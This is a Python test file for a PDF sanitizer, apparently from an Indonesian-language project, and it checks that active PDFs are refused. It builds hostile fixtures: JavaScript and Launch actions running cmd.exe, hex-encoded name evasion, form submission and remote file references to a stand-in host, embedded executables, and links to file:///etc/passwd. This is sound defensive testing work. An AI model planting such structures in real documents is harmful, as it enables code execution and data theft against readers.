"""Hostile PDFs: seen however they are written, refused with a sentence; what is kept is written anew."""

import io
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from smartpns.core.errors import DomainError
from smartpns.core.pdf import bersihkan_pdf
from tests.dokumen.berkas import pdf, pdf_berskrip, rangkai

HALAMAN = b"<< /Type /Pages /Kids [] /Count 0 >>"


def buat(ubah: Callable[[Pdf], None], **simpan: object) -> bytes:
    """A one-page PDF changed by `ubah`."""
    keluar = io.BytesIO()
    with Pdf.new() as berkas:
        berkas.add_blank_page()
        ubah(berkas)
        berkas.save(keluar, **simpan)  # type: ignore[arg-type]
    return keluar.getvalue()


def aksi(jenis: str, **isi: object) -> Callable[[Pdf], None]:
    def ubah(berkas: Pdf) -> None:
        berkas.Root.OpenAction = berkas.make_indirect(Dictionary(S=Name(jenis), **isi))

    return ubah


def anotasi(jenis: str, **isi: object) -> Callable[[Pdf], None]:
    def ubah(berkas: Pdf) -> None:
        satu = Dictionary(Type=Name.Annot, Subtype=Name(jenis), Rect=[0, 0, 10, 10], **isi)
        berkas.pages[0].Annots = Array([satu])

    return ubah


def lampiran(berkas: Pdf) -> None:
    berkas.attachments["a.exe"] = b"MZ"


def formulir_xfa(berkas: Pdf) -> None:
    berkas.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))


def kamus_skrip(berkas: Pdf) -> None:
    satu = Dictionary(S=Name("/JavaScript"), JS=String("x"))
    berkas.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), satu])))


def aksi_halaman(berkas: Pdf) -> None:
    berkas.pages[0].AA = Dictionary(O=Dictionary(S=Name("/JavaScript"), JS=String("x")))


def data_di_luar(berkas: Pdf) -> None:
    isi = pikepdf.Stream(berkas, b"")
    isi.F = String("http://jahat.example/a")
    berkas.pages[0].Contents = isi


def gambar_di_luar(berkas: Pdf) -> None:
    gambar = pikepdf.Stream(berkas, b"")
    gambar.Type, gambar.Subtype, gambar.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    gambar.Ref = Dictionary(F=String("a.pdf"), Page=0)
    berkas.pages[0].Resources = Dictionary(XObject=Dictionary(A=gambar))


def alamat_sebagai_berkas(berkas: Pdf) -> None:
    berkas.pages[0].PieceInfo = Dictionary(A=Dictionary(FS=Name.URL, F=String("http://jahat.example")))


def laman_terkumpul(berkas: Pdf) -> None:
    berkas.Root.Names = Dictionary(URLS=Dictionary(Names=Array([String("http://x"), Dictionary(S=Name.SPS)])))


def tanda_tangan(berkas: Pdf) -> None:
    nilai = Dictionary(Type=Name.Sig, ByteRange=Array([0, 10, 20, 30]), Contents=String("abc"))
    kolom = Dictionary(FT=Name.Sig, T=String("ttd"), V=berkas.make_indirect(nilai))
    berkas.Root.AcroForm = Dictionary(SigFlags=3, Fields=Array([berkas.make_indirect(kolom)]))


ALIRAN = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
JAHAT: dict[str, bytes] = {
    "skrip": pdf_berskrip(),
    "luncurkan": pdf_berskrip(b"/Launch"),
    "nama disandikan #xx": rangkai(
        (rb"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\(1\)) >> >>", HALAMAN)
    ),
    "luncurkan disandikan": rangkai(
        (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /L#61unch /F (cmd.exe) >> >>", HALAMAN)
    ),
    "skrip di aliran objek": buat(aksi("/JavaScript", JS=String("app.alert(1)")), **ALIRAN),
    "luncurkan di aliran objek": buat(aksi("/Launch", F=String("cmd.exe")), **ALIRAN),
    "kirim formulir": buat(aksi("/SubmitForm", F=String("http://jahat.example"))),
    "impor data": buat(aksi("/ImportData", F=String("a.fdf"))),
    "buka berkas lain": buat(aksi("/GoToR", F=String("\\\\jahat.example\\a.pdf"), D=Array([0, Name.Fit]))),
    "buka lampiran": buat(aksi("/GoToE", D=Array([0, Name.Fit]))),
    "putar media": buat(aksi("/Rendition")),
    "lampiran": buat(lampiran),
    "lampiran di halaman": buat(anotasi("/FileAttachment")),
    "media kaya": buat(anotasi("/RichMedia")),
    "formulir xfa": buat(formulir_xfa),
    "skrip bernama": buat(kamus_skrip, **ALIRAN),
    "aksi berantai": buat(aksi("/GoTo", D=Array([0, Name.Fit]), Next=Dictionary(S=Name("/Launch"), F=String("x")))),
    "aksi halaman": buat(aksi_halaman),
    "utas berkas lain": buat(aksi("/Thread", F=String("a.pdf"), D=0)),
    "data di luar": buat(data_di_luar),
    "gambar di luar": buat(gambar_di_luar, **ALIRAN),
    "alamat sebagai berkas": buat(alamat_sebagai_berkas),
    "laman terkumpul": buat(laman_terkumpul, **ALIRAN),
}


@pytest.mark.parametrize("isi", JAHAT.values(), ids=JAHAT.keys())
def test_pdf_yang_bertindak_ditolak(isi: bytes) -> None:
    with pytest.raises(DomainError, match="Cetak ulang ke PDF agar hanya berisi halaman") as galat:
        bersihkan_pdf(isi)
    assert galat.value.field == "berkas"


@pytest.mark.parametrize("simpan", [{}, ALIRAN], ids=["biasa", "aliran objek"])
def test_tanda_tangan_elektronik_tidak_dirusak_diam_diam(simpan: dict[str, object]) -> None:
    """Written anew it would be kept and shown as invalid, although it was genuine."""
    with pytest.raises(DomainError, match="bertanda tangan elektronik") as galat:
        bersihkan_pdf(buat(tanda_tangan, **simpan))
    assert galat.value.field == "berkas"


def test_pdf_terkunci_ditolak() -> None:
    kunci = pikepdf.Encryption(owner="a", user="b")
    tanpa_sandi_pembaca = pikepdf.Encryption(owner="a", user="")
    for enkripsi in (kunci, tanpa_sandi_pembaca):
        with pytest.raises(DomainError, match="dikunci dengan kata sandi"):
            bersihkan_pdf(buat(lambda b: None, encryption=enkripsi))


@pytest.mark.parametrize("isi", [b"", b"%PDF-1.7 palsu", pdf()[:-200], b"<html>"])
def test_yang_bukan_pdf_utuh_ditolak(isi: bytes) -> None:
    with pytest.raises(DomainError, match="tidak utuh"):
        bersihkan_pdf(isi)


def test_tautan_ke_luar_dimatikan_dan_dihitung() -> None:
    """The words stay on the page, the link leads nowhere; a link within the document stays."""

    def ubah(berkas: Pdf) -> None:
        def tautan(a: Dictionary) -> Dictionary:
            return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=a)

        luar = [tautan(Dictionary(S=Name.URI, URI=String(u))) for u in ("https://jahat.example", "file:///etc/passwd")]
        dalam = tautan(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
        berkas.pages[0].Annots = Array([*luar, dalam])

    bersih = bersihkan_pdf(buat(ubah, **ALIRAN))
    assert bersih.tautan_dimatikan == 2
    with Pdf.open(io.BytesIO(bersih.isi)) as hasil:
        anotasi = list(hasil.pages[0].Annots)
        assert [str(a.A.get("/S", "")) for a in anotasi] == ["", "", "/GoTo"]
    assert bersihkan_pdf(bersih.isi).tautan_dimatikan == 0


def test_yang_disimpan_hanya_isi_halamannya() -> None:
    """Bytes before, between and after are gone, and the same file gives the same bytes."""
    kotor = pdf("Halo") + b"\n"
    bersih = bersihkan_pdf(kotor)
    assert bersih == bersihkan_pdf(kotor)
    assert bersih.isi.startswith(b"%PDF-") and bersih.isi.rstrip().endswith(b"%%EOF")
    with Pdf.open(io.BytesIO(bersih.isi)) as hasil:
        assert b"Halo" in hasil.pages[0].Contents.read_bytes()
